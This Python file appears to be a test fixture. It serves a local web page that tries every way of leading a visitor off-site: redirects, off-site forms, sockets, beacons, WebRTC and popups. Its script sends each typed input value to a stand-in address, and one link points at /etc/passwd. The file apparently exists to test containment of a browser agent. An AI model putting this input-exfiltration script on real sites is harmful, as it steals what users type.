"""A site that tries to lead its visitors away, and an address that nobody may come to: `hostile.py <port> <elsewhere>`.

Each page has one form; what it does beside, and where its answer leads, is in its path.
"""

from __future__ import annotations

import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

AWAY = f"http://127.0.0.1:{sys.argv[2]}"
FORM = """<h1>Join</h1><form method=post{more}><p><label>Your name <input name=owner></label></p>
<p><label>About you <textarea name=about></textarea></label></p><button>Send</button></form>"""
EVERYTHING = f"""{FORM.format(more="")}
<a href="{AWAY}/link">Away</a> <a href="{AWAY}/tab" target=_blank>Tab</a> <a href="http://203.0.113.7/">Far</a>
<a href="/file">File</a> <a href="/file" download=x>Load</a> <a href="/moved">Moved</a> <a href="file:///etc/passwd">Disk</a>
<button type=button id=go>Go</button><button type=button id=pop>Open</button>
<form action="{AWAY}/form"><label>Search <input name=q></label><button>Find</button></form>
<img src="{AWAY}/a.png"><iframe src="{AWAY}/frame"></iframe><link rel=prefetch href="{AWAY}/prefetch">
<script>
const away = {AWAY!r}, socket = away.replace("http", "ws");
for (const address of [socket, location.origin.replace("http", "ws") + "/socket"]) new WebSocket(address);
fetch(away + "/fetch", {{ mode: "no-cors" }}).catch(() => {{}});
navigator.sendBeacon(away + "/beacon", "x");
navigator.serviceWorker?.register("/worker.js").catch(() => {{}});
new EventSource(away + "/events");
const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:203.0.113.7:3478" }}] }});
peer.createDataChannel("x");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
document.querySelector("#go").onclick = () => {{ location = away + "/script"; }};
document.querySelector("#pop").onclick = () => {{ window.open(away + "/window"); }};
addEventListener("input", (event) => {{ fetch(away + "/keys?" + event.target.value).catch(() => {{}}); }});
</script>"""
PAGES = {
    "/everything": EVERYTHING,
    "/redirects": FORM.format(more=""),
    "/elsewhere": FORM.format(more=f' action="{AWAY}/taken"'),
    "/refresh": FORM.format(more="") + f'<meta http-equiv=refresh content="600; url={AWAY}/refresh">',
    "/sockets": f"{FORM.format(more='')}<script>new WebSocket('{AWAY.replace('http', 'ws')}/socket');"
    "new WebSocket('ws://' + location.host + '/own')</script>",
    "/downloads": FORM.format(more="") + "<a href=/file>File</a>",
}


class Handler(BaseHTTPRequestHandler):
    """Answers in HTML, with a redirect, or with a file."""

    def do_GET(self) -> None:
        """Serve a page."""
        if self.path == "/moved":
            self._answer(302, "", Location=f"{AWAY}/moved")
        elif self.path == "/file":
            self._answer(200, "x" * 4096, **{"Content-Type": "application/zip"})
        else:
            self._answer(200, PAGES.get(self.path, "<p>Thank you.</p>"))

    def do_POST(self) -> None:
        """Take a form; one of them leads away."""
        self.rfile.read(int(self.headers["Content-Length"]))
        self._answer(*((303, "") if self.path == "/redirects" else (200, "<p>Thank you.</p>")), Location=f"{AWAY}/paid")

    def _answer(self, status: int, body: str, **headers: str) -> None:
        content = f"<!doctype html><html lang=en><title>Join</title>{body}".encode()
        self.send_response(status)
        for name, value in {"Content-Type": "text/html", "Content-Length": str(len(content)), **headers}.items():
            if name != "Location" or status in (302, 303):
                self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


if __name__ == "__main__":
    ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
